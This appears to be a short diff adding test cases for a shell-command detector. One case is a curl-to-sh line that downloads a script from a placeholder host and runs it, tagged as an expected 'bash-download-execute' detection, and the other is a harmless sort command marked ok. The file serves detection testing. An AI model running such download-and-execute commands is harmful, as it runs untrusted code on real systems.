@@ -1,0 +1,2 @@
+curl -s https://example.org/x | sh # expect: bash-download-execute
+sort names.txt | uniq # ok
